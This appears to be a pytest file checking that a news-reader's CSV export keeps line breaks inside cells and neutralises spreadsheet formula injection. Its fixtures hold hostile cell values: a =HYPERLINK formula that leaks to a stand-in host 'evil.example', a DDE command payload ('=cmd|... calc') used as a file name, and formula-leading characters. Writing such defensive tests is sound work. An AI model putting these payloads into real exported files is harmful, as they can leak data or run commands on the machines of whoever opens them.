"""CSV export read back as spreadsheets and data tools read it (issue 12, item 4): line breaks
of every kind stay inside their cell, and no cell of text can run as a formula."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from store_helpers import doc

from newsreader.store import Store
from newsreader.store.exchange import CSV_COLUMNS, export_annotations, export_to_file

HOSTILE_TEXT = (
    '=HYPERLINK("http://evil.example/?leak=1","Click here")\n\n'
    "The ministry said 42 people were killed.\n"
)
NOTES = [
    "bare\rcarriage return",
    "windows\r\nline end",
    "unix\nline end",
    'quotes " and, commas',
    " =1+2 after a space",
    "\t=tab first",
    "+44 20 7946 0000",
    "-2+3",
    "@SUM(A1:A2)",
    "\uff1dfull-width equals",
    "plain note",
]


@pytest.fixture
def exported(tmp_path: Path) -> tuple[str, list[str]]:
    article = doc(HOSTILE_TEXT, "=cmd|' /C calc'!A0.txt")
    db = tmp_path / "csv.db"
    with Store.open(db, user="@evil") as s:
        s.add_label("=label")
        for i, note in enumerate(NOTES):
            s.add(article, i, i + 5, "=label" if i % 2 else "claim", note)
        out = tmp_path / "tags.csv"
        export_to_file(s, "csv", out)
        buffer = io.StringIO()
        export_annotations(s, "csv", buffer)
    assert out.read_bytes().decode("utf-8") == buffer.getvalue()
    return buffer.getvalue(), NOTES


def _guarded(value: str) -> str:
    from newsreader.store.formats.csv import cell

    return cell(value)


def test_python_csv_reads_every_row_whole(exported: tuple[str, list[str]]) -> None:
    text, notes = exported
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0] == list(CSV_COLUMNS)
    assert len(rows) == 1 + len(notes)
    assert all(len(r) == len(CSV_COLUMNS) for r in rows)
    assert sorted(r[CSV_COLUMNS.index("note")] for r in rows[1:]) == sorted(
        _guarded(n) for n in notes
    )
    assert any(r[CSV_COLUMNS.index("note")] == "bare\rcarriage return" for r in rows)


def test_no_cell_runs_as_a_formula(exported: tuple[str, list[str]]) -> None:
    text, _ = exported
    rows = list(csv.reader(io.StringIO(text, newline="")))
    risky = set("=+-@|%\uff1d\uff0b\uff0d\uff20")
    for row in rows[1:]:
        for name, value in zip(CSV_COLUMNS, row, strict=True):
            if name in ("start", "end"):
                assert value.isdigit()
                continue
            first = value.lstrip()[:1]
            assert value[:1] not in ("\t", "\r", "\n"), (name, value)
            assert first not in risky, (name, value)
    paths = {r[CSV_COLUMNS.index("path")] for r in rows[1:]}
    titles = {r[CSV_COLUMNS.index("title")] for r in rows[1:]}
    assert paths == {"'=cmd|' /C calc'!A0.txt"}
    assert titles == {"'" + HOSTILE_TEXT.split("\n")[0]}
    assert {r[CSV_COLUMNS.index("author")] for r in rows[1:]} == {"'@evil"}
    assert {r[CSV_COLUMNS.index("label")] for r in rows[1:]} == {"claim", "'=label"}


def test_pandas_reads_every_row_whole(exported: tuple[str, list[str]]) -> None:
    pandas = pytest.importorskip("pandas", reason="pandas is in the test extra; not installed")
    text, notes = exported
    frame = pandas.read_csv(io.StringIO(text), dtype=str, keep_default_na=False)
    assert list(frame.columns) == list(CSV_COLUMNS)
    assert len(frame) == len(notes)
    assert sorted(frame["note"]) == sorted(_guarded(n) for n in notes)
    assert frame["start"].str.isdigit().all()
